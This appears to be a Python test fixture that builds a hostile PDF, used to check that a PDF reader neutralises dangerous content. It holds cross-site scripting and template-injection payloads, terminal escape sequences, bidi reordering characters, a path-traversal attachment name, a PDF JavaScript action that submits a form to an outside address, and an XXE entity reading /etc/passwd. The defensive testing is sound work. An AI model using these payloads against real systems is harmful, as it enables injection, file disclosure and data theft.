"""A PDF of an enemy: tags, scripts, escape sequences, formulas and reordering in all places that hold words.

Text by way of a ToUnicode map (which may spell anything, whatever is painted), the name of the font, title and author,
the outline, links, actions, page labels, an attached file and its name, and the metadata packet.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

from tests.unit.read.pdf_maker import arabic_font, pdf

#: What a line of text says, one after the other down the page.
LINES: Final = (
    "1. Working Group met.",
    "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "clear \x1b[31m\x9b2J\x07\x00",
    "reorder \u202e\u2066\u2028 it",
    "=1+1",
)
#: For a browser, which would be hit if any of it ran.
FOR_BROWSERS: Final = (
    "I. <img src=x onerror=window.hit=1> Introduction",
    "1. The Group \u2066met\u202e in <b onclick=window.hit=2>Vienna</b>. --><!-- <svg onload=window.hit=3>",
    "2. </script><script>window.hit=4</script> </title></style> {{7*7}} ${7*7}",
    "3. It \u202bread\u2069\u2069\u202c javascript:alert(1) \"onmouseover=window.hit=5 x='",
)
FONT_NAME: Final = "Evil#1b#5b31m#3cscript#3ewindow.hit=6#3c#2fscript#3e"

_SCRIPT: Final = "<script>window.hit=7</script>"
_ACTION: Final = "app.alert(1); this.submitForm('http://192.0.2.1/')"
#: A name that leads out of any folder, and commands a terminal.
PATH_NAME: Final = "../../../tmp/evil\x1b]0;owned\x07.sh"


def hostile_pdf(lines: Sequence[str] = LINES, *, gap: int = 60) -> bytes:
    """Return such a PDF of one page, whose text says these lines."""
    codes = dict(enumerate(sorted(set("".join(lines))), 1))
    numbers = {one: f"{code:04X}" for code, one in codes.items()}
    fonts, objects = arabic_font(codes, dict.fromkeys(codes, 500), name=FONT_NAME)
    drawn = f" 0 -{gap} Td ".join(f"<{''.join(map(numbers.__getitem__, line))}> Tj" for line in lines)
    first = 5 + len(objects)
    objects += _beside(first)
    return pdf(
        [f"BT /F1 12 Tf 72 700 Td {drawn} ET"],
        fonts=fonts,
        extra=objects,
        catalog=(
            f"/Outlines {first + 1} 0 R /OpenAction {first + 3} 0 R /Names << /EmbeddedFiles << /Names "
            f"[{_text(PATH_NAME)} {first + 4} 0 R] >> >> /Metadata {first + 6} 0 R /Lang {_text(_SCRIPT)} "
            f"/PageLabels << /Nums [0 << /S /D /P {_text(_SCRIPT)} >>] >>"
        ),
        trailer=f"/Info {first} 0 R",
    )


def _beside(first: int) -> list[str]:
    """Return what is no text of the page: seven objects, of which `first` is the number of the first."""
    words = f"{_SCRIPT}\x1b[2J\u202e{PATH_NAME}"
    packet = f"<x:xmpmeta><dc:title>{_SCRIPT}</dc:title><!ENTITY lol SYSTEM 'file:///etc/passwd'></x:xmpmeta>"
    return [
        f"<< /Title {_text(words)} /Author {_text(words)} /Producer {_text(words)} /Creator {_text(words)} >>",
        f"<< /Type /Outlines /First {first + 2} 0 R /Last {first + 2} 0 R /Count 1 >>",
        f"<< /Title {_text(words)} /Parent {first + 1} 0 R /A {first + 3} 0 R >>",
        f"<< /S /JavaScript /JS {_text(_ACTION)} >>",
        f"<< /Type /Filespec /F {_text(PATH_NAME)} /UF {_text(PATH_NAME)} /EF << /F {first + 5} 0 R >> >>",
        _stream("/Type /EmbeddedFile", "#!/bin/sh\ntouch owned\n"),
        _stream("/Type /Metadata /Subtype /XML", packet),
    ]


def _text(words: str) -> str:
    """Return a text string as PDF writes it: UTF-16 in hexadecimal digits (PDF 32000-1, 7.9.2.2)."""
    return f"<FEFF{words.encode('utf-16-be').hex()}>"


def _stream(entries: str, data: str) -> str:
    return f"<< {entries} /Length {len(data)} >>\nstream\n{data}\nendstream"
